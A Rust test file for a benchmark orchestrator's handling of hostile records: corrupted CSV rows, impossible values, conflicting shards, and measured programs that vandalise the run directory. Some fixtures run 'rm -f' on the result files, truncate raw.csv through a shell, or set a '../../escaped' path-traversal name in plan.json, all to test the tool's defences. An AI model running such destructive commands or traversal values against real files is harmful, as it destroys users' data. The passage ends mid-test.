//! Hostile records (issue 23, points 5–12): run directories and shards damaged or edited by hand,
//! measured programs that lie about their results or vandalise the run directory, and a results
//! directory whose `latest` is the user's own. Each test proves a promise of docs/statuses.md:
//! nothing measured is lost or counted twice, an impossible value is refused naming the file, line
//! and column, and whatever is incomplete or left out is said.
//!
//! Run directories and shards are written here with known rows; the runs use the fixture-child
//! binary and /bin/cat of result lines written here, so neither Python nor the release build is
//! needed.

mod common;

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{plan, record, root, Outcome, ORCHESTRATOR};
use orchestrator::plan::shard::{AssignedPoint, PlanFile, PointKey, ShardBlock};
use orchestrator::plan::{Plan, PointPlan};
use orchestrator::records::{self, CsvAppender, RawRecord, RunStatus, SampleRecord};
use tempfile::TempDir;

fn scratch() -> TempDir {
    tempfile::Builder::new().prefix("hostile-records-").tempdir().expect("a temporary directory")
}

/// `orchestrator --root <this project> ARGS`, run to its end.
fn orchestrator(args: impl IntoIterator<Item = impl AsRef<OsStr>>) -> Outcome {
    let mut command = Command::new(ORCHESTRATOR);
    command.arg("--root").arg(root()).args(args).stdin(Stdio::null());
    for name in ["SLURM_ARRAY_TASK_ID", "SLURM_ARRAY_TASK_COUNT", "SLURM_ARRAY_TASK_MIN", "SLURM_ARRAY_TASK_STEP", "JOB_COMPLETION_INDEX"] {
        command.env_remove(name);
    }
    let outcome = Outcome::of(&command.output().expect("start the orchestrator"));
    assert!(!outcome.stderr.contains("panicked"), "the orchestrator panicked:\n{}", outcome.show());
    outcome
}

// ---------------------------------------------------------------------------------------------
// Run directories and shards written by hand

/// The fixture's dataset (the write-up's five points), written into `dir`.
fn dataset(dir: &Path) -> PathBuf {
    let data = dir.join("seed.npy");
    linreg::Dataset::new(vec![1.0, 2.0, 3.0, 4.0, 5.0], vec![2.0, 4.0, 6.0, 8.0, 10.0]).unwrap().write_npy(&data).unwrap();
    data
}

/// rust at about 3 ms and python-numpy at about 100 ms, `rust` and `numpy` runs (repetitions 1…).
fn runs(rust: u32, numpy: u32) -> Vec<RawRecord> {
    let rust_rows = (1..=rust).map(|k| record("rust", k, (2.97 + 0.01 * f64::from(k)) * 1e-3, 2 << 20));
    rust_rows.chain((1..=numpy).map(|k| record("python-numpy", k, f64::from(99 + k) * 1e-3, 30 << 20))).collect()
}

/// A run directory of the fixture plan (common::plan) asking for `repetitions` runs of each
/// implementation, holding `rows` in raw.csv; no environment.json, as after a run killed early.
fn write_run(dir: &Path, repetitions: u32, rows: &[RawRecord]) {
    std::fs::create_dir_all(dir).unwrap();
    let mut plan = plan(&dataset(dir), vec![]);
    plan.scenarios[0].measure.repetitions = repetitions;
    records::write_json_atomic(&dir.join(records::PLAN_JSON), &plan).unwrap();
    CsvAppender::open(&dir.join(records::RAW_CSV)).unwrap().append(rows).unwrap();
}

fn append_text(path: &Path, text: &str) {
    use std::io::Write;
    std::fs::OpenOptions::new().append(true).open(path).unwrap().write_all(text.as_bytes()).unwrap();
}

/// Sets one field of a CSV file: line `line` (1 is the header), column `column`, to `text`.
fn set_field(path: &Path, line: usize, column: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_path(path).unwrap();
    let mut lines: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let index = lines[0].iter().position(|name| name == column).unwrap_or_else(|| panic!("no column {column}"));
    let mut fields: Vec<String> = lines[line - 1].iter().map(str::to_owned).collect();
    fields[index] = text.to_owned();
    lines[line - 1] = csv::StringRecord::from(fields);
    let mut writer = csv::Writer::from_path(path).unwrap();
    for fields in &lines {
        writer.write_record(fields).unwrap();
    }
    writer.flush().unwrap();
}

fn key(point: usize) -> PointKey {
    PointKey { scenario: "seed".into(), point }
}

/// The fixture plan with a second point, n=6, and 2 runs of each implementation per point.
fn two_point_plan(data: &Path) -> Plan {
    let mut plan = plan(data, vec![]);
    let scenario = &mut plan.scenarios[0];
    scenario.measure.repetitions = 2;
    let second = PointPlan { index: 1, label: "n=6 epochs=1000 lr=0.01".into(), n: 6, ..scenario.points[0].clone() };
    scenario.points.push(second);
    plan
}

/// Both implementations' 2 runs at `point` of the two-point plan.
fn point_rows(point: usize) -> Vec<RawRecord> {
    let label = if point == 0 { "n=5 epochs=1000 lr=0.01" } else { "n=6 epochs=1000 lr=0.01" };
    runs(2, 2).into_iter().map(|r| RawRecord { point, point_label: label.into(), n: 5 + point as u64, ..r }).collect()
}

/// Shards 1/2 (point 0) and 2/2 (point 1) of the two-point plan, as `run --shard K/2` leaves
/// them (without environment.json: the merge warns that their machines are unknown).
fn write_shards(dir: &Path) -> [PathBuf; 2] {
    let whole = two_point_plan(&dataset(dir));
    let partition: Vec<AssignedPoint> = whole.scenarios[0]
        .points
        .iter()
        .map(|p| AssignedPoint { key: key(p.index), label: p.label.clone(), estimated_cost_ns: 1, shard: p.index as u32 + 1 })
        .collect();
    [1u32, 2].map(|index| {
        let point = index as usize - 1;
        let shard = dir.join(format!("shard-{index}"));
        std::fs::create_dir_all(&shard).unwrap();
        let mut plan = whole.clone();
        plan.scenarios[0].points.retain(|p| p.index == point);
        let block = ShardBlock { index, count: 2, fingerprint: "f".repeat(64), points: vec![key(point)], partition: partition.clone() };
        records::write_json_atomic(&shard.join(records::PLAN_JSON), &PlanFile { plan, shard: Some(block) }).unwrap();
        CsvAppender::open(&shard.join(records::RAW_CSV)).unwrap().append(&point_rows(point)).unwrap();
        shard
    })
}

fn merge(shards: &[PathBuf], out: &Path) -> Outcome {
    let mut args: Vec<&OsStr> = vec![OsStr::new("merge")];
    args.extend(shards.iter().map(|s| s.as_os_str()));
    args.extend([OsStr::new("--out"), out.as_os_str()]);
    orchestrator(args)
}

fn summary_runs(run_dir: &Path) -> Vec<(String, u64)> {
    let summary: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(run_dir.join("summary.json")).unwrap()).unwrap();
    let implementations = summary["summary"]["scenarios"][0]["points"][0]["implementations"].as_array().cloned().unwrap_or_default();
    implementations.iter().map(|i| (i["implementation"].as_str().unwrap_or("").to_owned(), i["runs"].as_u64().unwrap_or(0))).collect()
}

/// The longest run of digits in `text`: a number written out in full has hundreds.
fn longest_digits(text: &str) -> usize {
    text.split(|c: char| !c.is_ascii_digit()).map(str::len).max().unwrap_or(0)
}

/// The report's first screen: everything before its table of contents.
fn first_screen(run_dir: &Path) -> String {
    let report = std::fs::read_to_string(run_dir.join("report.md")).unwrap();
    report.split("**Contents:**").next().unwrap_or_default().to_owned()
}

// ---------------------------------------------------------------------------------------------
// Point 5: a last line cut short

#[test]
fn a_half_written_last_line_is_named_and_the_complete_rows_still_count() {
    let dir = scratch();
    let run = dir.path().join("run");
    write_run(&run, 5, &runs(5, 5));
    // The header is line 1, the ten rows lines 2–11: the run was killed writing line 12.
    append_text(&run.join(records::RAW_CSV), "seed,0,\"n=5 epochs=10");
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let warning = out.stderr.lines().find(|l| l.contains("raw.csv")).unwrap_or_else(|| panic!("no word of the cut line:\n{}", out.show()));
    assert!(warning.contains("line 12") && warning.contains("seed,0,\"n=5 epochs=10"), "{warning}");
    assert_eq!(summary_runs(&run), vec![("rust".into(), 5), ("python-numpy".into(), 5)]);
    assert!(first_screen(&run).contains("line 12"), "{}", first_screen(&run));
    // compare reads it the same way.
    let whole = dir.path().join("whole");
    write_run(&whole, 5, &runs(5, 5));
    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(out.stderr.lines().any(|l| l.contains("raw.csv") && l.contains("line 12")), "{}", out.show());

    let shards = write_shards(dir.path());
    append_text(&shards[1].join(records::RAW_CSV), "seed,1,\"n=6");
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let cut = shards[1].join(records::RAW_CSV).display().to_string();
    let warning = out.stderr.lines().find(|l| l.contains(&cut)).unwrap_or_else(|| panic!("no word of the cut line:\n{}", out.show()));
    assert!(warning.contains("line 6") && warning.contains("seed,1,\"n=6"), "{warning}");
    assert_eq!(records::read_raw(&merged).unwrap().len(), 8);
}

// ---------------------------------------------------------------------------------------------
// Point 6: impossible measured values; absurd magnitudes

#[test]
fn impossible_measured_values_are_refused_naming_file_line_and_column() {
    let dir = scratch();
    let cases = [
        ("wall_seconds", "NaN"),
        ("wall_seconds", "inf"),
        ("wall_seconds", "1e309"),
        ("wall_seconds", "-0.004"),
        ("wall_seconds", "0"),
        ("user_seconds", "-1"),
        ("system_seconds", "NaN"),
        ("load_seconds", "inf"),
        ("train_seconds", "-0.1"),
        ("sampler_cpu_seconds", "NaN"),
        ("started_unix_seconds", "-inf"),
        ("w", "NaN"),
        ("mse", "-0.001"),
        ("epochs_run", "5000"),
        ("diverged_at_epoch", "0"),
        ("threads", "0"),
    ];
    let mut failures = Vec::new();
    for (case, (column, value)) in cases.iter().enumerate() {
        let run = dir.path().join(format!("run-{case}"));
        write_run(&run, 5, &runs(5, 5));
        set_field(&run.join(records::RAW_CSV), 4, column, value);
        let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
        let named = ["raw.csv", "line 4", column, value].iter().all(|part| out.stderr.contains(part));
        if out.code != Some(2) || !named {
            failures.push(format!("{column} = {value}: {}", out.show()));
        }
    }
    // samples.csv is read the same way.
    let run = dir.path().join("run-samples");
    write_run(&run, 5, &runs(5, 5));
    let sample = |t_seconds| SampleRecord {
        scenario: "seed".into(),
        point: 0,
        implementation: "rust".into(),
        repetition: 1,
        t_seconds,
        rss_bytes: 1 << 20,
        cpu_seconds: 1e-3,
    };
    CsvAppender::open(&run.join(records::SAMPLES_CSV)).unwrap().append(&[sample(0.001), sample(f64::NAN)]).unwrap();
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    if out.code != Some(2) || !["samples.csv", "line 3", "t_seconds"].iter().all(|part| out.stderr.contains(part)) {
        failures.push(format!("samples.csv t_seconds = NaN: {}", out.show()));
    }
    // And merge refuses a shard with one, before writing anything.
    let shards = write_shards(dir.path());
    set_field(&shards[1].join(records::RAW_CSV), 3, "wall_seconds", "NaN");
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    if out.code != Some(2) || !["raw.csv", "line 3", "wall_seconds"].iter().all(|part| out.stderr.contains(part)) {
        failures.push(format!("merge of wall_seconds = NaN: {}", out.show()));
    }
    assert!(!merged.join(records::RAW_CSV).exists(), "the merge wrote its output");
    assert!(failures.is_empty(), "\n{}", failures.join("\n\n"));
}

/// `compare` matches points by scenario and label: a plan with two points under one label (an
/// edited plan.json) is refused, as `machines` refuses it, rather than its rows pooled; and a
/// row's own label, which anyone could edit, does not move it to another point.
#[test]
fn compare_refuses_a_label_named_twice_and_reads_labels_from_the_plan() {
    let dir = scratch();
    let (whole, edited) = (dir.path().join("whole"), dir.path().join("edited"));
    write_run(&whole, 5, &runs(5, 5));
    std::fs::create_dir_all(&edited).unwrap();
    let mut plan = two_point_plan(&dataset(&edited));
    plan.scenarios[0].points[1].label = plan.scenarios[0].points[0].label.clone();
    records::write_json_atomic(&edited.join(records::PLAN_JSON), &plan).unwrap();
    CsvAppender::open(&edited.join(records::RAW_CSV)).unwrap().append(&[point_rows(0), point_rows(1)].concat()).unwrap();
    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), edited.as_os_str()]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("has two points labelled 'n=5 epochs=1000 lr=0.01' (#0 and #1)"), "{}", out.show());

    let relabelled = dir.path().join("relabelled");
    write_run(&relabelled, 5, &runs(5, 5));
    // Every rust row relabelled: read by their own label they would match nothing in the old run,
    // and rust would drop out of the comparison without a word.
    for line in 2..=6 {
        set_field(&relabelled.join(records::RAW_CSV), line, "point_label", "n=6 epochs=1000 lr=0.01");
    }
    let out = orchestrator([OsStr::new("compare"), whole.as_os_str(), relabelled.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let rust_wall = out.stdout.lines().find(|l| l.contains(" rust ") && l.contains(" wall "));
    assert!(rust_wall.is_some_and(|l| l.contains("n=5 epochs=1000 lr=0.01")), "{}", out.show());
    assert!(!out.stdout.contains("n=6"), "{}", out.show());
}

/// A status no run ends in names the status columns (csv does not say which field an enum was),
/// and a cell of 100 KB is not quoted whole.
#[test]
fn an_unknown_status_names_its_columns_briefly() {
    let dir = scratch();
    let run = dir.path().join("run");
    write_run(&run, 5, &runs(5, 5));
    set_field(&run.join(records::RAW_CSV), 3, "status", &format!("bogus{}", "x".repeat(100_000)));
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("line 3: column status or one_off_status: unknown variant `bogus"), "{}", out.show());
    assert!(out.stderr.len() < 2_000, "{} bytes of message", out.stderr.len());
}

#[test]
fn absurd_but_finite_magnitudes_are_written_briefly() {
    let dir = scratch();
    let run = dir.path().join("run");
    // The baseline's runs take 10^-300 s (a time no clock reads, but not an impossible one).
    let rows: Vec<RawRecord> = runs(5, 5)
        .into_iter()
        .map(|r| {
            if r.implementation == "python-numpy" {
                RawRecord { load_seconds: None, train_seconds: None, ..record("python-numpy", r.repetition, 1e-300, 30 << 20) }
            } else {
                r
            }
        })
        .collect();
    write_run(&run, 5, &rows);
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    assert!(longest_digits(&report) < 20, "a number of {} digits in\n{report}", longest_digits(&report));
    assert!(longest_digits(&out.stdout) < 20, "a number of {} digits in\n{}", longest_digits(&out.stdout), out.stdout);
    // The speed-up of 10^-298 is not written as 0.
    let rust = report.lines().find(|l| l.starts_with("| rust |")).unwrap_or_else(|| panic!("no rust row in\n{report}"));
    assert!(rust.contains("e-298×"), "{rust}");
    // A time of 10^300 s is longer than any run: the row is set aside, named briefly.
    let rows: Vec<RawRecord> = runs(5, 5)
        .into_iter()
        .map(|r| if r.repetition == 1 && r.implementation == "rust" { record("rust", 1, 1e300, 1 << 20) } else { r })
        .collect();
    let run = dir.path().join("run-long");
    write_run(&run, 5, &rows);
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(out.stderr.contains("line 2: wall_seconds = 1e300: must be a number of seconds ≥ 0 and at most 1e9"), "{}", out.show());
    assert!(longest_digits(&out.stderr) < 20, "{}", out.stderr);
}

// ---------------------------------------------------------------------------------------------
// Point 7: a shard claiming another shard's point

#[test]
fn a_shard_claiming_another_shards_point_is_refused() {
    let dir = scratch();
    let shards = write_shards(dir.path());
    let edit = |shard: &Path, change: &dyn Fn(&mut PlanFile)| {
        let mut file: PlanFile = records::read_json(&shard.join(records::PLAN_JSON)).unwrap();
        change(&mut file);
        records::write_json_atomic(&shard.join(records::PLAN_JSON), &file).unwrap();
    };
    let point_1 = two_point_plan(&dir.path().join("seed.npy")).scenarios[0].points[1].clone();
    // Shard 1 says it holds point 1 as well, and has copies of its rows.
    edit(&shards[0], &|file| {
        file.shard.as_mut().unwrap().points.push(key(1));
        file.plan.scenarios[0].points.push(point_1.clone());
    });
    CsvAppender::open(&shards[0].join(records::RAW_CSV)).unwrap().append(&point_rows(1)).unwrap();
    let merged = dir.path().join("merged");
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("seed#1") && out.stderr.contains("shard-1") && out.stderr.contains("shard-2"), "{}", out.show());
    assert!(!merged.join(records::RAW_CSV).exists(), "the merge wrote its output");

    // Its plan alone claiming the point (the shard block as it was) is refused too: the merged
    // plan would have that point twice.
    edit(&shards[0], &|file| file.shard.as_mut().unwrap().points.retain(|k| k.point == 0));
    std::fs::remove_file(shards[0].join(records::RAW_CSV)).unwrap();
    CsvAppender::open(&shards[0].join(records::RAW_CSV)).unwrap().append(&point_rows(0)).unwrap();
    let out = merge(&shards, &merged);
    assert_eq!(out.code, Some(2), "{}", out.show());
    assert!(out.stderr.contains("seed#1") && out.stderr.contains("shard-1"), "{}", out.show());
}

// ---------------------------------------------------------------------------------------------
// Points 8 and 9: a run killed part-way; rows of an implementation the plan does not name

#[test]
fn a_run_killed_part_way_is_reported_incomplete_on_the_first_screen() {
    let dir = scratch();
    let run = dir.path().join("run");
    // 6 runs of each planned; the orchestrator was killed (SIGKILL) after 3 of rust's, 2 of numpy's.
    write_run(&run, 6, &runs(3, 2));
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let first = first_screen(&run);
    for want in ["Incomplete run", "5 of the 12 planned runs", "rust 3 of 6", "python-numpy 2 of 6"] {
        assert!(first.contains(want), "'{want}' is not on the first screen:\n{first}");
    }
    assert!(out.stdout.contains("incomplete") && out.stdout.contains("5 of the 12 planned runs"), "{}", out.show());
    // The counts shown are the rows that exist, not the plan's.
    let report = std::fs::read_to_string(run.join("report.md")).unwrap();
    let described = report.lines().find(|l| l.contains("counted run(s)")).unwrap_or_else(|| panic!("{report}"));
    assert!(described.contains("5 of the 12 planned runs"), "{described}");
    let rust = report.lines().find(|l| l.starts_with("| rust |")).unwrap_or_else(|| panic!("no rust row in\n{report}"));
    assert!(rust.contains("3 of 6 runs"), "{rust}");

    // A complete run says nothing of the kind.
    let complete = dir.path().join("complete");
    write_run(&complete, 5, &runs(5, 5));
    let out = orchestrator([OsStr::new("report"), complete.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert!(!std::fs::read_to_string(complete.join("report.md")).unwrap().contains("incomplete"));
}

#[test]
fn rows_the_plan_does_not_name_are_reported_as_left_out() {
    let dir = scratch();
    let run = dir.path().join("run");
    let mut rows = runs(5, 5);
    rows.extend((1..=3).map(|k| record("julia", k, 0.01, 1 << 20)));
    rows.push(RawRecord { scenario: "ghost".into(), ..record("rust", 1, 0.01, 1 << 20) });
    write_run(&run, 5, &rows);
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let said = |text: &str| text.contains("julia") && text.contains("ghost") && text.contains("left out");
    assert!(said(&out.stderr), "{}", out.show());
    assert!(said(&first_screen(&run)), "{}", first_screen(&run));
    assert!(first_screen(&run).contains("4 row(s)"), "{}", first_screen(&run));
}

/// Rows past the plan's repetitions, or of a point measured with another n, epochs or learning
/// rate, are not the plan's runs: left out (said so), never counted — five extra rows of 0.5 s
/// would have moved rust's median from ~3 ms to 500 ms.
#[test]
fn rows_past_the_plans_repetitions_or_of_another_setup_are_left_out() {
    let dir = scratch();
    let run = dir.path().join("run");
    // python-numpy's second run is of another point: a learning rate of 0.02 where the plan has 0.01.
    let mut rows = runs(2, 1);
    rows.extend((3..=7).map(|k| record("rust", k, 0.5, 1 << 20)));
    rows.push(RawRecord { learning_rate: 0.02, ..record("python-numpy", 2, 9.0, 1 << 20) });
    write_run(&run, 2, &rows);
    let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    assert_eq!(summary_runs(&run), vec![("rust".into(), 2), ("python-numpy".into(), 1)]);
    assert!(out.stderr.contains("5 row(s)") && out.stderr.contains("no such repetition"), "{}", out.show());
    assert!(out.stderr.contains("no such point with the rows' n, epochs and learning rate"), "{}", out.show());
    assert!(first_screen(&run).contains("6 row(s) of raw.csv are left out"), "{}", first_screen(&run));
    // compare counts the same runs.
    let clean = dir.path().join("clean");
    write_run(&clean, 2, &runs(2, 2));
    let out = orchestrator([OsStr::new("compare"), clean.as_os_str(), run.as_os_str()]);
    assert!(out.stderr.contains("no such repetition") && !out.stdout.contains("REGRESSION"), "{}", out.show());
}

/// A plan.json edited by hand (or a run directory from someone else) whose scenario or
/// implementation name is a path: chart files are named after scenarios, so `../../x` would write
/// outside the run directory. Such a plan is refused, naming the file and the name, and nothing is
/// written anywhere.
#[test]
fn a_plan_whose_names_are_paths_is_refused_and_nothing_is_written_outside_the_run() {
    for (what, edit) in [("scenario", "scenario"), ("implementation", "implementation")] {
        let dir = scratch();
        let run = dir.path().join("deep/run");
        write_run(&run, 5, &runs(5, 5));
        let plan_path = run.join(records::PLAN_JSON);
        let mut plan: Plan = serde_json::from_str(&std::fs::read_to_string(&plan_path).unwrap()).unwrap();
        if edit == "scenario" {
            plan.scenarios[0].name = "../../escaped".into();
        } else {
            plan.scenarios[0].implementations[0].name = "../../escaped".into();
        }
        records::write_json_atomic(&plan_path, &plan).unwrap();
        let out = orchestrator([OsStr::new("report"), run.as_os_str()]);
        assert_eq!(out.code, Some(2), "{what}: {}", out.show());
        assert!(out.stderr.contains("plan.json") && out.stderr.contains("'../../escaped'"), "{what}: {}", out.show());
        let mut written: Vec<PathBuf> = walk(dir.path()).into_iter().filter(|p| !p.starts_with(&run)).collect();
        written.retain(|p| p.is_file());
        assert!(written.is_empty(), "{what}: written outside the run directory: {written:?}");
        assert!(!run.join("report.md").exists() && !run.join("charts").exists(), "{what}: a report of a refused plan");
        // `compare` refuses it too, either side (it printed a table and exited 0).
        let base = dir.path().join("base");
        write_run(&base, 5, &runs(5, 5));
        for pair in [[base.as_os_str(), run.as_os_str()], [run.as_os_str(), base.as_os_str()]] {
            let out = orchestrator([OsStr::new("compare"), pair[0], pair[1]]);
            assert_eq!(out.code, Some(2), "compare, {what}: {}", out.show());
            assert!(out.stderr.contains("plan.json") && out.stderr.contains("'../../escaped'"), "compare, {what}: {}", out.show());
        }
    }
}

/// Every path under `dir`.
fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() {
            out.extend(walk(&path));
        }
        out.push(path);
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Points 10–12: runs with a hostile child or a hostile results directory

/// A scenario on the write-up's five points: `fixture` (a valid result line) as the baseline,
/// and the other implementations defined by `define` (YAML lines "name: {command: […]}").
fn scenario(dir: &Path, others: &[(&str, String)]) -> PathBuf {
    let names: Vec<&str> = std::iter::once("fixture").chain(others.iter().map(|(name, _)| *name)).collect();
    let mut text = format!(
        "name: hostile\ndataset: {{inline: {{x: [1, 2, 3, 4, 5], y: [2, 4, 6, 8, 10]}}}}\ntraining: {{epochs: 1000, learning_rate: 0.01}}\n\
         implementations: [{}]\nbaseline: fixture\ndefine:\n  fixture: {{command: [\"{{bin_dir}}/fixture-child\", \"result\", \"{{n}}\", \"{{epochs}}\", \"{{learning_rate}}\"]}}\n",
        names.join(", ")
    );
    for (name, definition) in others {
        text.push_str(&format!("  {name}: {definition}\n"));
    }
    let path = dir.join("hostile.yaml");
    std::fs::write(&path, text).unwrap();
    path
}

/// `run SCENARIO --results RESULTS --no-probes --warmup 0 --repetitions N EXTRA…`.
fn run(scenario: &Path, results: &Path, repetitions: u32, extra: &[&OsStr]) -> Outcome {
    let repetitions = repetitions.to_string();
    let mut args: Vec<&OsStr> = vec![OsStr::new("run"), scenario.as_os_str(), OsStr::new("--results"), results.as_os_str()];
    args.extend(["--no-probes", "--warmup", "0", "--repetitions", &repetitions].map(OsStr::new));
    args.extend(extra);
    orchestrator(args)
}

fn yaml_string(path: &Path) -> String {
    serde_json::to_string(&path.display().to_string()).unwrap()
}

#[test]
fn a_child_that_deletes_raw_csv_loses_no_row() {
    let dir = scratch();
    let out_dir = dir.path().join("run");
    let files = [records::RAW_CSV, records::SAMPLES_CSV].map(|name| yaml_string(&out_dir.join(name)));
    let vandal = format!("{{command: [\"/bin/rm\", \"-f\", {}, {}], protocol: none}}", files[0], files[1]);
    let scenario = scenario(dir.path(), &[("vandal", vandal)]);
    let out = run(&scenario, &dir.path().join("results"), 3, &[OsStr::new("--out"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let rows = records::read_raw(&out_dir).unwrap_or_else(|e| panic!("{e}\n{}", out.show()));
    let count = |name: &str| rows.iter().filter(|r| r.implementation == name && r.status == RunStatus::Ok).count();
    assert_eq!((count("fixture"), count("vandal")), (3, 3), "{rows:#?}");
    assert!(out.stderr.contains("raw.csv") && out.stderr.contains("deleted"), "{}", out.show());
    assert!(out_dir.join("report.md").is_file());
    assert_eq!(summary_runs(&out_dir), vec![("fixture".into(), 3), ("vandal".into(), 3)]);
}

/// A raw.csv cut short from outside cannot be written again (its rows are gone from the open copy
/// too): the run stops with exit 3, naming the file and saying the rows it held are lost
/// (docs/statuses.md), rather than go on appending to a file that no longer says what ran.
#[test]
fn a_child_that_cuts_raw_csv_short_stops_the_run_with_exit_3() {
    let dir = scratch();
    let out_dir = dir.path().join("run");
    let raw = out_dir.join(records::RAW_CSV);
    let vandal = format!("{{command: [\"/bin/sh\", \"-c\", ': > \"$0\"', {}], protocol: none}}", yaml_string(&raw));
    let scenario = scenario(dir.path(), &[("vandal", vandal)]);
    let out = run(&scenario, &dir.path().join("results"), 3, &[OsStr::new("--out"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(3), "{}", out.show());
    let error = first_error(&out);
    assert!(error.contains("stopped after runs had started"), "{}", out.show());
    assert!(error.contains(&raw.display().to_string()) && error.contains("the rows it held are lost"), "{}", out.show());
}

/// A report that cannot be rendered (here a measured program put directories where report.md and
/// report.html go) ends the run with exit 3 saying where the raw records are; they are kept whole.
#[test]
fn a_report_that_cannot_be_rendered_exits_3_and_keeps_the_rows() {
    let dir = scratch();
    let out_dir = dir.path().join("run");
    let blocked = ["report.md", "report.html"].map(|name| yaml_string(&out_dir.join(name).join("blocked")));
    let vandal = format!("{{command: [\"/bin/mkdir\", \"-p\", {}, {}], protocol: none}}", blocked[0], blocked[1]);
    let scenario = scenario(dir.path(), &[("vandal", vandal)]);
    let out = run(&scenario, &dir.path().join("results"), 3, &[OsStr::new("--out"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(3), "{}", out.show());
    let error = first_error(&out);
    let raw = out_dir.join(records::RAW_CSV).display().to_string();
    assert!(error.contains("rendering the report") && error.contains(&format!("the raw records are in {raw}")), "{}", out.show());
    let rows = records::read_raw(&out_dir).unwrap_or_else(|e| panic!("{e}\n{}", out.show()));
    let count = |name: &str| rows.iter().filter(|r| r.implementation == name && r.status == RunStatus::Ok).count();
    assert_eq!((count("fixture"), count("vandal")), (3, 3), "{rows:#?}");
}

#[test]
fn a_latest_of_the_users_own_is_left_alone_and_no_temporary_link_is_left() {
    let dir = scratch();
    let scenario = scenario(dir.path(), &[]);
    // A regular file named latest: kept as it is.
    let results = dir.path().join("results");
    std::fs::create_dir_all(&results).unwrap();
    std::fs::write(results.join("latest"), "my notes\n").unwrap();
    let out = run(&scenario, &results, 1, &[]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let latest = std::fs::symlink_metadata(results.join("latest")).unwrap();
    assert!(latest.is_file(), "latest is no longer the user's file");
    assert_eq!(std::fs::read_to_string(results.join("latest")).unwrap(), "my notes\n");
    assert!(out.stderr.contains("latest") && out.stderr.contains("left"), "{}", out.show());

    // A directory named latest: kept, and no .latest-PID link is left beside it.
    let results = dir.path().join("results-2");
    std::fs::create_dir_all(results.join("latest")).unwrap();
    for _ in 0..2 {
        let out = run(&scenario, &results, 1, &[]);
        assert_eq!(out.code, Some(0), "{}", out.show());
        assert!(out.stderr.contains("latest") && out.stderr.contains("left"), "{}", out.show());
    }
    let names: Vec<String> = std::fs::read_dir(&results).unwrap().flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
    assert!(!names.iter().any(|n| n.starts_with(".latest")), "{names:?}");
    assert!(std::fs::symlink_metadata(results.join("latest")).unwrap().is_dir());
}

#[test]
fn a_result_line_with_impossible_values_is_bad_output() {
    let dir = scratch();
    let line = |fields: &str| {
        format!(
            "{{\"implementation\":\"x\",\"n\":5,\"epochs\":1000,\"learning_rate\":0.01,{fields},\"load_seconds\":0,\"train_seconds\":0}}\n"
        )
    };
    let ok = |extra: &str| line(&format!("\"w\":1.99,\"b\":0.017,\"mse\":1e-4,\"status\":\"ok\",\"epochs_run\":1000{extra}"));
    let diverged = |epochs_run: u64, at: u64| {
        line(&format!("\"w\":null,\"b\":null,\"mse\":null,\"status\":\"diverged\",\"epochs_run\":{epochs_run},\"diverged_at_epoch\":{at}"))
    };
    let cases = [
        ("negative-mse", line("\"w\":1.99,\"b\":0.017,\"mse\":-1,\"status\":\"ok\",\"epochs_run\":1000"), "mse"),
        ("diverged-at-zero", diverged(0, 0), "diverged_at_epoch"),
        ("diverged-past-the-end", diverged(1000, 1001), "diverged_at_epoch"),
        ("ran-past-the-end", diverged(1001, 7), "epochs_run"),
        ("no-threads", ok(",\"threads\":0"), "threads"),
        ("a-trillion-threads", ok(",\"threads\":1000000000000"), "threads"),
    ];
    let others: Vec<(&str, String)> = cases
        .iter()
        .map(|(name, text, _)| {
            let file = dir.path().join(format!("{name}.json"));
            std::fs::write(&file, text).unwrap();
            (*name, format!("{{command: [\"/bin/cat\", {}]}}", yaml_string(&file)))
        })
        .collect();
    let scenario = scenario(dir.path(), &others);
    let out_dir = dir.path().join("run");
    let out = run(&scenario, &dir.path().join("results"), 1, &[OsStr::new("--out"), out_dir.as_os_str()]);
    assert_eq!(out.code, Some(0), "{}", out.show());
    let rows = records::read_raw(&out_dir).unwrap();
    let mut failures = Vec::new();
    for (name, _, field) in cases {
        let row = rows.iter().find(|r| r.implementation == name).unwrap_or_else(|| panic!("no row of {name}: {rows:#?}"));
        if row.status != RunStatus::BadOutput || !row.message.contains(field) {
            failures.push(format!("{name}: want bad_output naming {field}, got {} '{}'", row.status, row.message));
        }
    }
